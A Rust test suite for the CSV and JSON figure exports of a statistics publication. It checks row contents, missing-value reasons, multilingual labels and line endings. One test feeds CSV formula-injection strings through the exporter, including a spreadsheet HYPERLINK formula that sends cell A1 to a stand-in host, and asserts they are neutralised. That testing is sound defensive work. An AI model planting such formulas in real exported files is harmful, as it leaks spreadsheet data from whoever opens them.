//! What the tables of figures hold, in both formats.

use std::collections::{BTreeMap, BTreeSet};

use super::*;

#[test]
fn every_observation_is_in_the_files_it_belongs_to_once() {
    let data = with(&[GROUND, FIGURES]);
    let observations = || {
        let by_period = data.observations.values().flat_map(BTreeMap::values);
        by_period.flat_map(BTreeMap::values)
    };
    let references_where = |wanted: &dyn Fn(&crate::model::FigureRef) -> bool| -> BTreeSet<String> {
        let figures = observations().map(|observation| &observation.figure);
        figures
            .filter(|figure| wanted(figure))
            .map(ToString::to_string)
            .collect()
    };
    let holds = |path: &str, expected: BTreeSet<String>| {
        for (format, rows) in [
            ("csv", csv_rows(&file(&data, &format!("{path}.csv")))),
            ("json", json_rows(&file(&data, &format!("{path}.json")))),
        ] {
            let found = references(&rows);
            assert_eq!(found.len(), expected.len(), "{path}.{format}: {found:?}");
            let found: BTreeSet<String> = found.into_iter().map(ToOwned::to_owned).collect();
            assert_eq!(found, expected, "{path}.{format}");
        }
    };
    holds("downloads/figures", references_where(&|_| true));
    for id in data.organizations.keys() {
        let expected = references_where(&|figure| figure.organization == *id);
        holds(&format!("organizations/{id}/figures"), expected);
    }
    for id in data.indicators.keys() {
        let expected = references_where(&|figure| figure.measure.indicator == *id);
        holds(&format!("indicators/{id}/figures"), expected);
    }
}

#[test]
fn a_reference_in_a_file_leads_back_to_its_figure() {
    let data = with(&[GROUND, FIGURES]);
    for row in csv_rows(&file(&data, "downloads/figures.csv")) {
        let found = figure(&data, &row["figure"]);
        assert!(data.observation(&found).is_some(), "{}", row["figure"]);
        assert_eq!(row["organization"], found.organization.as_str());
        assert_eq!(row["indicator"], found.measure.indicator.as_str());
        assert_eq!(row["cell"], found.measure.cell.to_string());
        assert_eq!(row["period"], found.period.code());
        let (page, anchor) = route::figure(&found);
        let page = route::route(&data.publication, data.publication.default_language(), &page);
        assert_eq!(row["page"], format!("{page}#{}", anchor.as_str()));
    }
}

#[test]
fn both_formats_say_the_same() {
    let data = with(&[GROUND, FIGURES, TARGETS]);
    for path in paths(&data).iter().filter_map(|path| path.strip_suffix(".csv")) {
        let csv = csv_rows(&file(&data, &format!("{path}.csv")));
        assert!(!csv.is_empty(), "{path}");
        let filled = |mut row: Row| {
            row.retain(|_, field| !field.is_empty());
            row
        };
        let csv: Vec<Row> = csv.into_iter().map(filled).collect();
        assert_eq!(csv, json_rows(&file(&data, &format!("{path}.json"))), "{path}");
    }
}

#[test]
fn numbers_are_as_written_in_no_language() {
    let data = with(&[GROUND, FIGURES]);
    for rows in [
        csv_rows(&file(&data, "downloads/figures.csv")),
        json_rows(&file(&data, "downloads/figures.json")),
    ] {
        assert_eq!(of(&rows, "a/2023/members")["value"], "1234567");
        assert_eq!(of(&rows, "a/2024/members")["value"], "12.50");
        assert_eq!(of(&rows, "c/2024/members")["value"], "-3.5");
        let rounded = of(&rows, "b/2018-2022/rate-of-women");
        let said = ["value", "lower", "upper"].map(|name| rounded[name].as_str());
        assert_eq!(said, ["66.2", "66.15", "66.25"]);
        let exact = of(&rows, "a/2023/admitted").get("lower");
        assert!(exact.is_none_or(String::is_empty), "{exact:?}");
    }
}

#[test]
fn what_is_no_number_says_why() {
    let data = with(&[GROUND, FIGURES]);
    let rows = csv_rows(&file(&data, "downloads/figures.csv"));
    for (reference, word) in [
        ("a/2024/admitted", "did-not-occur"),
        ("b/2023/admitted", "not-available"),
        ("b/2024/admitted", "not-applicable"),
        ("c/2023/admitted", "confidential"),
        ("c/2024/admitted", "suppressed"),
    ] {
        let row = of(&rows, reference);
        assert_eq!(
            (row["value"].as_str(), row["missing"].as_str()),
            ("", word),
            "{reference}"
        );
    }
    for row in &rows {
        assert_ne!(row["value"].is_empty(), row["missing"].is_empty(), "{row:?}");
    }
}

#[test]
fn a_row_says_what_its_figure_is_of() {
    let data = with(&[GROUND, FIGURES]);
    let rows = csv_rows(&file(&data, "organizations/a/figures.csv"));
    let crossed = of(&rows, "a/2023/admitted[priority-group=pupils,sex=women]");
    for (name, value) in [
        ("by_sex", "women"),
        ("by_priority-group", "pupils"),
        ("cell_vi", "priority-group: pupils, sex: women"),
        ("kind", "flow"),
        ("status", "E"),
        ("period_start", "2023-01-01"),
        ("period_end", "2023-12-31"),
        ("date", ""),
        ("source", "d"),
        ("source_section", ""),
    ] {
        assert_eq!(crossed[name], value, "{name}");
    }
    let total = of(&rows, "a/2023/admitted");
    assert_eq!((total["by_sex"].as_str(), total["cell_vi"].as_str()), ("", ""));
    assert_eq!(
        (total["status"].as_str(), total["source_section"].as_str()),
        ("A", "I.2")
    );
    assert_eq!(of(&rows, "a/2023/admitted[sex=women]")["status"], "P");
    assert_eq!(
        of(&rows, "a/2024/admitted")["status"],
        "",
        "its source states none"
    );
    assert_eq!(of(&rows, "a/2024/members")["date"], "2024-06-30");
    assert_eq!(of(&rows, "a/2023/members")["date"], "", "its source does not say");
    let all = csv_rows(&file(&data, "downloads/figures.csv"));
    assert_eq!(of(&all, "b/2018-2022/rate-of-women")["unit"], "percent");
}

#[test]
fn names_are_in_each_language_that_they_are_written_in() {
    let mut data = with(&[GROUND, FIGURES]);
    let [vi, en] = ["vi", "en"].map(|code| Language::new(code).unwrap());
    data.publication.languages = vec![vi.clone(), en.clone()];
    let each = |texts: &[(&Language, &str)]| {
        let texts = texts.iter();
        Text::Each(
            texts
                .map(|(language, text)| ((*language).clone(), (*text).into()))
                .collect(),
        )
    };
    let person = UnitId::new("person").unwrap();
    let name = each(&[(&vi, "người"), (&en, "people")]);
    data.units.insert(
        person.clone(),
        Unit {
            id: person.clone(),
            name,
            one: None,
        },
    );
    for indicator in data
        .indicators
        .values_mut()
        .filter(|it| it.id.as_str() == "members")
    {
        indicator.unit = Some(person.clone());
        indicator.name = each(&[(&vi, "Đảng viên")]);
    }
    let rows = csv_rows(&file(&data, "indicators/members/figures.csv"));
    let row = of(&rows, "a/2024/members");
    for (name, value) in [
        ("indicator_vi", "Đảng viên"),
        ("indicator_en", ""),
        ("organization_en", "a"),
        ("unit", "person"),
        ("unit_vi", "người"),
        ("unit_en", "people"),
    ] {
        assert_eq!(row[name], value, "{name}");
    }
}

#[test]
fn text_of_the_publication_cannot_become_a_formula_or_break_a_row() {
    let evil = [
        "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
        "+84",
        "-1+1",
        "@SUM(1)",
        "dòng một\r\n=2,\"ba\"",
        "một;=1+1",
        "\"",
        ",",
    ];
    for text in evil {
        let mut data = with(&[GROUND, "figure a/2024/members -7"]);
        let id = OrganizationId::new("a").unwrap();
        data.organizations.get_mut(&id).unwrap().name = text.into();
        for document in data.documents.values_mut() {
            *document = Document {
                number: Some(text.to_owned()),
                ..document.clone()
            };
        }
        for observation in data.observations.values_mut().flat_map(BTreeMap::values_mut) {
            for observation in observation.values_mut() {
                observation.note = Some(std::sync::Arc::new(text.into()));
                std::sync::Arc::make_mut(&mut observation.source).section = Some(text.into());
            }
        }
        let written = csv_rows(&file(&data, "downloads/figures.csv"));
        assert_eq!(written.len(), 1, "{text}");
        for name in ["organization_vi", "source_number", "source_section", "note"] {
            let field = &written[0][name];
            assert!(!field.starts_with(['=', '+', '-', '@']), "{name}: {field}");
            assert_eq!(field.replace('\'', ""), text.replace('\'', ""), "{name}");
        }
        assert_eq!(written[0]["value"], "-7", "a number is no formula");
        let json = json_rows(&file(&data, "downloads/figures.json"));
        assert_eq!(
            json[0]["note"], text,
            "no program takes a string of JSON for a formula"
        );
    }
}

#[test]
fn lines_end_as_the_standard_says_and_json_has_no_byte_order_mark() {
    let data = with(&[GROUND, FIGURES]);
    let csv = file(&data, "downloads/figures.csv");
    assert!(csv.ends_with("\r\n"));
    assert_eq!(csv.matches('\n').count(), csv.matches("\r\n").count());
    let json = file(&data, "downloads/figures.json");
    assert!(json.starts_with("{\"columns\":[\"figure\",\"organization\","));
    assert_eq!(
        json.lines().count(),
        2 + csv.lines().count(),
        "a line for each row"
    );
}

#[test]
fn all_files_of_figures_have_the_same_columns() {
    let data = with(&[GROUND, FIGURES]);
    let heads: BTreeSet<String> = paths(&data)
        .iter()
        .filter(|path| path.ends_with("figures.csv"))
        .map(|path| file(&data, path).lines().next().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(heads.len(), 1);
}
